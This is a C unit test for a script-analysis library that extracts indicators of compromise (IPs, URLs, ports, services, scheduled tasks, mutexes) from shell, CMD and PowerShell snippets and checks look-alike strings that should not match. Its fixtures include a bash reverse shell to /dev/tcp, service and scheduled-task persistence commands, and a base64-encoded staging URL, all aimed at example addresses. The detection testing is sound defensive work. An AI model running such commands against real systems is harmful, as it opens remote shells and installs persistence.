/* test-script-ioc.c
 *
 * What of a script can be looked for elsewhere, and what only looks like it.
 *
 * SPDX-License-Identifier: MIT
 */
#include "config.h"

#include "vdt-script.h"

typedef struct
{
  const char    *script;
  VdtScriptLang  lang;
  const char    *indicators;   /* “type value” joined by “ | ”, in order */
} Case;

static const Case cases[] = {
  /* Written so that nobody follows them. */
  { "curl hxxp://198[.]51[.]100[.]7/x; ping evil[.]example[.]org; ping 203.0.113(.)9", VDT_SCRIPT_LANG_SHELL,
    "url http://198.51.100.7/x | ip 198.51.100.7 | ip 203.0.113.9 | domain evil.example.org" },
  /* Addresses, ports and names. */
  { "curl 'http://[2001:db8::1]:8080/x'; ping 2001:db8::5", VDT_SCRIPT_LANG_SHELL,
    "url http://[2001:db8::1]:8080/x | ip 2001:db8::1 | ip 2001:db8::5" },
  { "bash -i >& /dev/tcp/203.0.113.62/4444 0>&1", VDT_SCRIPT_LANG_SHELL, "ip 203.0.113.62 | port 4444" },
  { "curl http://a:b@c@198.51.100.3:8443/", VDT_SCRIPT_LANG_SHELL,
    "url http://a:b@c@198.51.100.3:8443/ | ip 198.51.100.3 | port 8443" },
  { "Test-NetConnection -Server 203.0.113.8 -Port 587", VDT_SCRIPT_LANG_POWERSHELL, "port 587 | ip 203.0.113.8" },
  { "rsync -a /opt/x/a u@host-1:/tmp/out", VDT_SCRIPT_LANG_SHELL, "path /opt/x/a | path /tmp/out" },
  /* Names that options give. */
  { "sc \\\\host create UpdSvc binPath= c:\\x\\a.exe", VDT_SCRIPT_LANG_CMD, "path c:\\x\\a.exe | service UpdSvc" },
  { "schtasks /create /tn \"A\\B\" /tr c:\\x\\b.exe", VDT_SCRIPT_LANG_CMD, "path c:\\x\\b.exe | task A\\B" },
  { "Register-ScheduledTask 'Tidy' -Action $a", VDT_SCRIPT_LANG_POWERSHELL, "task Tidy" },
  { "systemctl enable --now upd.service", VDT_SCRIPT_LANG_SHELL, "service upd.service" },
  { "$m = New-Object System.Threading.Mutex($false, 'Global\\abcd-12')", VDT_SCRIPT_LANG_POWERSHELL,
    "mutex Global\\abcd-12" },
  { "$w.Headers.Add('User-Agent', 'Updater/1.0')", VDT_SCRIPT_LANG_POWERSHELL, "user-agent Updater/1.0" },
  { "if ($h -eq 'd41d8cd98f00b204e9800998ecf8427e') {}", VDT_SCRIPT_LANG_POWERSHELL,
    "hash d41d8cd98f00b204e9800998ecf8427e" },
  { "Get-ItemProperty 'HKLM:\\SOFTWARE\\Example Co'", VDT_SCRIPT_LANG_POWERSHELL,
    "registry HKLM:\\SOFTWARE\\Example Co" },
  /* A literal that nothing is seen to decode. */
  { "$x.Read($env:Q + 'aHR0cDovLzE5OC41MS4xMDAuOS9zdGFnZS50eHQ=')", VDT_SCRIPT_LANG_POWERSHELL,
    "url http://198.51.100.9/stage.txt | ip 198.51.100.9" },
  /* Where it keeps its files. */
  { "copy a c:\\work\\one.dat & copy b c:\\work\\two.dat", VDT_SCRIPT_LANG_CMD,
    "path c:\\work\\one.dat | path c:\\work\\two.dat | path c:\\work" },
  /* What only looks like one. */
  { "$v = '10.0.17763.1'; Install-Module X -RequiredVersion 5.1.2.3", VDT_SCRIPT_LANG_POWERSHELL,
    "" },
  { "# [assembly: AssemblyVersion(\"1.2.3.4\")] oid 2.5.29.37.1", VDT_SCRIPT_LANG_POWERSHELL, "" },
  { "$x = '<a xmlns=\"http://schemas.microsoft.com/x\"><t>1.1.1.4</t></a>'", VDT_SCRIPT_LANG_POWERSHELL, "" },
  { "$o = order.name; $p = login.example; this.it; $q = utlook.com", VDT_SCRIPT_LANG_POWERSHELL, "" },
  { "curl --socks5 127.0.0.1:9050 -A x/1.2.3.4 example", VDT_SCRIPT_LANG_SHELL, "user-agent x/1.2.3.4 | port 9050" },
  { "nc -l -p", VDT_SCRIPT_LANG_SHELL, "" },
};

static void
test_cases (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(VdtScriptResult) result = vdt_script_analyse (cases[i].script, -1, cases[i].lang, NULL, NULL);
      g_autoptr(GString) found = g_string_new (NULL);

      for (guint n = 0; n < result->indicators->len; n++)
        {
          const VdtScriptIndicator *indicator = g_ptr_array_index (result->indicators, n);

          g_assert_cmpuint (indicator->layer, <, result->layers->len);
          g_string_append_printf (found, "%s%s %s", n > 0 ? " | " : "", indicator->type, indicator->value);
        }

      g_test_message ("%s", cases[i].script);
      g_assert_cmpstr (found->str, ==, cases[i].indicators);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/script/ioc/cases", test_cases);

  return g_test_run ();
}
